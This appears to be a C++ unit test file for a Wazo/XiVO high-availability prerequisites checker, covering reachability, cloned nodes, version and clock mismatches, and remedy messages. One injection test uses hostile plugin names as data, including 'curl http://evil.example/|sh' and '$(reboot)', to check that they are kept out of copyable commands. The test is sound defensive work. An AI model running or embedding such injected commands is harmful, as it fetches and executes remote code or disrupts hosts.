#include "resources/prerequisites/prerequisites.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <functional>
#include <map>

#include "tests/resources/prerequisites_world.h"

namespace tandem {
namespace {

using fakes::FakeVendor;
using std::chrono::minutes;
using testing::Contains;
using testing::HasSubstr;

constexpr std::uint64_t kFull = 100ULL << 20U;

class PrerequisitesTest : public fakes::PrerequisitesWorld {
 protected:
  void become_secondary() {
    goal.role = Role::secondary;
    goal.standing_by = true;
    std::swap(goal.own_address, goal.peer_address);
    goal.peer_addresses = {"10.0.0.1"};
    network.addresses = {{"eth0", "10.0.0.2", false, 24}};
    reachability.echoes.emplace("10.0.0.1", std::chrono::nanoseconds{400'000});
    vendor.stop(FakeVendor::kProvd);
    node.files["/var/lib/wazo-provd/plugins/plugins.db"] = "";
  }

  // Broken so, the condition is not well, for this reason, with these words; mended, and after the
  // longest that a question waits, it is well again without a restart.
  void expect_found(const std::string& type, const std::function<void()>& break_it,
                    const std::function<void()>& mend_it, const std::string& reason,
                    const std::string& remedy) {
    SCOPED_TRACE(type + " " + reason);
    EXPECT_TRUE(is_well(look(type, minutes{61}))) << look(type).message;
    break_it();
    const Condition broken = look(type, minutes{61});
    EXPECT_EQ(broken.reason, reason) << broken.message;
    EXPECT_FALSE(is_well(broken));
    EXPECT_NE(broken.status, Truth::unknown);
    EXPECT_THAT(broken.message, HasSubstr(remedy));
    mend_it();
    EXPECT_TRUE(is_well(look(type, Prerequisites::kFactsEvery))) << look(type).message;
  }
};

TEST_F(PrerequisitesTest, AreAllMetOnAHealthyPrimary) {
  const auto told = look_at_all();
  EXPECT_EQ(told.size(), 13U);
  for (const Condition& condition : told)
    EXPECT_TRUE(is_well(condition)) << condition.type << ": " << condition.message;
}

TEST_F(PrerequisitesTest, PutNoTextOfTheOtherNodeIntoACommandToCopy) {
  peer.plugins = {"x /etc/asterisk; curl http://evil.example/|sh #"};
  const Condition odd = look("NoPluginOnSecondary", minutes{61});
  EXPECT_EQ(odd.reason, "PluginsInstalled");
  EXPECT_EQ(odd.message.find("rm -r"), std::string::npos) << odd.message;
  peer.plugins = {"$(reboot)", "wazo-snom-10.1"};
  const Condition mixed = look("NoPluginOnSecondary", minutes{61});
  EXPECT_THAT(mixed.message, HasSubstr("rm -r /var/lib/wazo-provd/plugins/wazo-snom-10.1"));
}

TEST_F(PrerequisitesTest, AreAskedAnewAsSoonAsTheKeyIsAnother) {
  const fakes::File key = disk.files["/etc/tandem/ssh/id_ed25519"];
  disk.files.erase("/etc/tandem/ssh/id_ed25519");
  EXPECT_EQ(look("PeerWizardPassed").reason, "PeerNotAsked");
  EXPECT_EQ(look("PeerWizardPassed").reason, "PeerNotAsked");
  disk.files["/etc/tandem/ssh/id_ed25519"] = key;  // tandem init
  EXPECT_TRUE(is_well(look("PeerWizardPassed"))) << "not a minute later";
}

TEST_F(PrerequisitesTest, AreAllMetOnAHealthySecondary) {
  become_secondary();
  const auto told = look_at_all();
  EXPECT_EQ(told.size(), 4U);
  for (const Condition& condition : told)
    EXPECT_TRUE(is_well(condition)) << condition.type << ": " << condition.message;
}

TEST_F(PrerequisitesTest, HasNothingToDoTheSecondTime) {
  for (int i = 0; i < 2; ++i) {
    const auto report = run(reconcile(*resource, goal, Permission::up_to(Reach::telephony)));
    EXPECT_EQ(report.outcome, Outcome::in_sync);
    EXPECT_TRUE(report.drift.empty());
  }
  EXPECT_TRUE(node.journal.empty());
  EXPECT_TRUE(disk.journal.empty());
  EXPECT_TRUE(vendor.writes().empty());
}

TEST_F(PrerequisitesTest, AskWhatCostsOthersSeldom) {
  (void)look_at_all();
  const auto asked = [&] { return std::make_pair(programs.journal.size(), http.sent.size()); };
  const auto before = asked();
  for (int i = 0; i < 9; ++i) (void)look("DiskFree", minutes{0});
  clock.advance(std::chrono::seconds{270});
  (void)look_at_all();
  EXPECT_EQ(asked(), before) << "within five minutes only the ping is asked anew";
  EXPECT_THAT(reachability.journal, Contains("ping 10.0.0.2").Times(11));
  (void)look("DiskFree", minutes{1});
  EXPECT_NE(asked(), before);
}

TEST_F(PrerequisitesTest, AskAgainSoonWhatIsNotMet) {
  peer.product_version = "26.07";
  EXPECT_EQ(look("VersionsEqual").reason, "VersionsDiffer");
  peer.product_version = "26.08";
  EXPECT_EQ(look("VersionsEqual").reason, "VersionsDiffer");
  EXPECT_TRUE(is_well(look("VersionsEqual", Prerequisites::kFactsAgain)));
}

TEST_F(PrerequisitesTest, AskAnewAfterAChangeOfTheGoal) {
  EXPECT_TRUE(is_well(look("PeerPingAllowed")));
  goal.peer_address = "10.0.0.3";
  EXPECT_EQ(look("PeerPingAllowed").reason, "NoEcho");
  EXPECT_EQ(look("PeerPostgresReachable").reason, "Refused");
}

TEST_F(PrerequisitesTest, AskNothingWithHaOff) {
  goal.role = Role::off;
  EXPECT_TRUE(look_at_all().empty());
  EXPECT_TRUE(reachability.journal.empty());
  EXPECT_TRUE(programs.journal.empty());
}

TEST_F(PrerequisitesTest, FindWhatIsInTheWay) {
  expect_found(
      "PeerSshReachable", [&] { ssh_fails = "ssh: connect to host 10.0.0.2: Connection refused"; },
      [&] { ssh_fails.clear(); }, "Refused", "systemctl start ssh");
  expect_found(
      "PeerSshReachable", [&] { ssh_fails = "ssh: connect to host 10.0.0.2: timed out"; },
      [&] { ssh_fails.clear(); }, "NoAnswer",
      "iptables -I INPUT -p tcp -s 10.0.0.1 --dport 22 -j ACCEPT");
  expect_found(
      "PeerPostgresReachable", [&] { reachability.servers.clear(); },
      [&] { reachability.servers.emplace("10.0.0.2:5432", std::string()); }, "Refused",
      "systemctl start postgresql");
  expect_found(
      "PeerPostgresReachable",
      [&] {
        reachability.servers.at("10.0.0.2:5432") = Error{Fault::timed_out, "10.0.0.2: no answer"};
      },
      [&] { reachability.servers.at("10.0.0.2:5432") = std::string(); }, "NoAnswer",
      "iptables -I INPUT -p tcp -s 10.0.0.1 --dport 5432 -j ACCEPT");
  expect_found(
      "PeerPingAllowed", [&] { reachability.echoes.clear(); },
      [&] { reachability.echoes.emplace("10.0.0.2", std::chrono::nanoseconds{1}); }, "NoEcho",
      "iptables -I INPUT -p icmp --icmp-type echo-request -s 10.0.0.1 -j ACCEPT");
}

TEST_F(PrerequisitesTest, FindAnAddressInAnotherSubnetOnXivo) {
  node.files["/usr/share/xivo/XIVO-VERSION"] = "2026.05\n";
  EXPECT_EQ(look("SubnetsDiffer").type, "") << "Wazo wants none";
  goal.product = Product::xivo;
  expect_found(
      "SubnetsDiffer", [&] { network.addresses[0].prefix = 31; },
      [&] { network.addresses[0].prefix = 24; }, "OtherSubnet", "/etc/network/interfaces");
  network.addresses.clear();
  EXPECT_EQ(look("SubnetsDiffer").status, Truth::unknown);
  network.addresses = {{"lo", "127.0.0.1", false, 8}};
  goal.own_address = "127.0.0.11";
  goal.peer_address = "127.0.0.12";
  EXPECT_EQ(look("SubnetsDiffer").reason, "SameSubnet") << "as in a lab";
}

TEST_F(PrerequisitesTest, FindEachTraitOfAClone) {
  (void)look_at_all();
  const NodeFacts own = run(collector.collect({}));
  const NodeFacts healthy = peer;
  const auto mend = [&] { peer = healthy; };
  expect_found(
      "NodesCloned", [&] { peer.machine = own.machine; }, mend, "SameIdentity",
      "systemd-machine-id-setup");
  expect_found(
      "NodesCloned", [&] { peer.system = own.system; }, mend, "SameIdentity", "a UUID of its own");
  expect_found(
      "NodesCloned", [&] { peer.host_keys.push_back(own.host_keys[0]); }, mend, "SameIdentity",
      "ssh-keygen -A");
  expect_found(
      "NodesCloned", [&] { peer.postgres->system_identifier = "111"; }, mend, "SameIdentity",
      "pg_createcluster");
  peer.machine = peer.system = "";
  peer.host_keys.clear();
  peer.postgres.reset();
  EXPECT_EQ(look("NodesCloned", minutes{61}).status, Truth::unknown);
}

TEST_F(PrerequisitesTest, FindOnTheSecondaryThatTheHostKeysAreTheSame) {
  become_secondary();
  expect_found(
      "NodesCloned", [&] { keyscan = std::string("10.0.0.1 ") + kOwnKey; },
      [&] { keyscan = kPeerKey; }, "SameIdentity", "ssh-keygen -A");
}

TEST_F(PrerequisitesTest, FindWhereTheNodesDiffer) {
  const NodeFacts healthy = peer;
  const auto mend = [&] { peer = healthy; };
  expect_found(
      "VersionsEqual", [&] { peer.product_version = "26.07"; }, mend, "VersionsDiffer",
      "/usr/bin/wazo-upgrade");
  expect_found(
      "PostgresMajorsEqual", [&] { peer.postgres->major = 13; }, mend, "MajorsDiffer",
      "pg_upgradecluster 13 main");
  expect_found(
      "LocalesEqual", [&] { peer.postgres->collate = "C.UTF-8"; }, mend, "LocalesDiffer",
      "locale-gen");
  expect_found(
      "LocalesEqual", [&] { peer.postgres->encoding = "LATIN1"; }, mend, "LocalesDiffer",
      "locale-gen");
  expect_found(
      "PeerWizardPassed", [&] { peer.wizard_passed = false; }, mend, "WizardNotPassed",
      "https://10.0.0.2");
}

TEST_F(PrerequisitesTest, FindClocksThatAreApart) {
  for (const auto ahead : {std::chrono::seconds{5}, std::chrono::seconds{-5}})
    expect_found(
        "ClocksAgree", [&] { peer_ahead = ahead; }, [&] { peer_ahead = {}; }, "ClocksApart",
        "timedatectl set-ntp true");
  peer_ahead = std::chrono::seconds{1};
  EXPECT_TRUE(is_well(look("ClocksAgree", minutes{61})));
}

TEST_F(PrerequisitesTest, FindPluginsOnTheSecondary) {
  expect_found(
      "NoPluginOnSecondary", [&] { peer.plugins = {{"wazo-snom"}}; },
      [&] { peer.plugins.emplace(); }, "PluginsInstalled",
      "wazo-provd-cli -c \"plugins.uninstall('wazo-snom')\"");
  become_secondary();
  expect_found(
      "NoPluginOnSecondary",
      [&] { node.files["/var/lib/wazo-provd/plugins/wazo-snom/entry.py"] = ""; },
      [&] { node.files.erase("/var/lib/wazo-provd/plugins/wazo-snom/entry.py"); },
      "PluginsInstalled", "rm -r /var/lib/wazo-provd/plugins/wazo-snom");
}

TEST_F(PrerequisitesTest, FindTrunksThatRegisterForLong) {
  const auto set = [&](const char* value) {
    vendor.trunks["carrier2"] = {{"client_uri", "sip:c@d"}, {"expiration", value}};
  };
  const auto mend = [&] { vendor.trunks.erase("carrier2"); };
  for (const char* value : {"300", "3600", "abc", ""})
    expect_found(
        "TrunkExpiryShort", [&] { set(value); }, mend, "TrunksRegisterForLong", "below 300");
  expect_found(
      "TrunkExpiryShort",
      [&] {
        vendor.trunks["carrier2"] = {{"client_uri", "sip:c@d"}};
      },
      mend, "TrunksRegisterForLong", "carrier2 (3600 s, Asterisk's default)");
  set("299");
  EXPECT_TRUE(is_well(look("TrunkExpiryShort", minutes{5})));
  vendor.trunks["inbound only"] = {};
  EXPECT_TRUE(is_well(look("TrunkExpiryShort", minutes{5}))) << "it registers nowhere";
}

TEST_F(PrerequisitesTest, FindATenantWithoutTemplate) {
  expect_found(
      "TenantsSeen", [&] { vendor.tenants["t2"] = "north"; },
      [&] {
        vendor.templates["t2"] = {"t2", "global", FakeVendor::default_aor()};
      },
      "TenantsWithoutTemplate", "wazo-confd-sync-db");
}

TEST_F(PrerequisitesTest, FindAFullDisk) {
  expect_found(
      "DiskFree", [&] { node.room.available = kFull; }, [&] { node.room.available = 1ULL << 40U; },
      "DiskNearlyFull", "du -xh");
}

// I could not ask is never a no.
TEST_F(PrerequisitesTest, AreUnknownWhereTheOtherNodeCanNotBeAsked) {
  disk.files.erase("/etc/tandem/ssh/id_ed25519");
  for (const char* type : {"NodesCloned", "VersionsEqual", "PostgresMajorsEqual", "LocalesEqual",
                           "PeerWizardPassed", "ClocksAgree", "NoPluginOnSecondary"}) {
    const Condition condition = look(type);
    EXPECT_EQ(condition.status, Truth::unknown) << type;
    EXPECT_THAT(condition.message, HasSubstr("tandem init")) << type;
  }
  EXPECT_EQ(look("PeerSshReachable").reason, "Refused") << "the port is tried by itself";
  reachability.servers.emplace("10.0.0.2:22", std::string("SSH-2.0-OpenSSH_9.2p1\r\n"));
  EXPECT_TRUE(is_well(look("PeerSshReachable", minutes{1})));
}

TEST_F(PrerequisitesTest, AreUnknownWhereANodeDoesNotKnow) {
  peer.product_version.clear();
  peer.postgres.reset();
  peer.plugins.reset();
  peer.wizard_passed.reset();
  peer.unknown = {{"postgres", "the role tandem is missing"}};
  for (const char* type : {"VersionsEqual", "PostgresMajorsEqual", "LocalesEqual",
                           "PeerWizardPassed", "NoPluginOnSecondary"})
    EXPECT_EQ(look(type).status, Truth::unknown) << type;
  EXPECT_THAT(look("LocalesEqual").message, HasSubstr("the role tandem is missing"));
}

TEST_F(PrerequisitesTest, AreUnknownWhereThisNodesServicesAreDown) {
  vendor.busy = 100;
  server = Error{Fault::connection_refused, "nobody listens at 127.0.0.1:5432"};
  for (const char* type : {"TrunkExpiryShort", "TenantsSeen", "PostgresMajorsEqual"})
    EXPECT_EQ(look(type).status, Truth::unknown) << type;
  EXPECT_TRUE(is_well(look("VersionsEqual"))) << "the others go on";
  vendor.busy = 0;
  server = SqlRows{{}, {{"150018", "111", "UTF8", "fr_FR.UTF-8", "fr_FR.UTF-8"}}};
  for (const char* type : {"TrunkExpiryShort", "TenantsSeen", "PostgresMajorsEqual"})
    EXPECT_TRUE(is_well(look(type, minutes{5}))) << type;
}

TEST_F(PrerequisitesTest, SayThatTheyMaySendNoPing) {
  reachability.echoes.at("10.0.0.2") = Error{Fault::denied, "it wants CAP_NET_RAW"};
  const Condition condition = look("PeerPingAllowed");
  EXPECT_EQ(condition.status, Truth::unknown);
  EXPECT_EQ(condition.reason, "MayNotPing");
}

TEST_F(PrerequisitesTest, HaveNoTrunksWhereConfdKnowsNone) {
  goal.product = Product::xivo;
  vendor.has_templates = false;
  http.on("GET", std::string(FakeVendor::kConfd) + "/trunks",
          fakes::text(404, "<html>", "text/html"));
  EXPECT_EQ(look("TrunkExpiryShort").type, "");
  EXPECT_EQ(look("TenantsSeen").type, "");
}

TEST_F(PrerequisitesTest, TakeNoMuddledAnswerForFacts) {
  programs.programs[kSshProgram] = [](const Command&) { return fakes::exits(0, "Welcome!\n"); };
  EXPECT_EQ(look("VersionsEqual").status, Truth::unknown);
  EXPECT_TRUE(is_well(look("PeerSshReachable"))) << "its sshd answered";
}

TEST_F(PrerequisitesTest, ShowNoSecret) {
  for (const Condition& condition : look_at_all())
    EXPECT_FALSE(shows_a_secret(condition.message)) << condition.message;
  vendor.acl = {"nothing"};
  clock.advance(minutes{61});
  for (const Condition& condition : look_at_all())
    EXPECT_FALSE(shows_a_secret(condition.message)) << condition.message;
}

}  // namespace
}  // namespace tandem
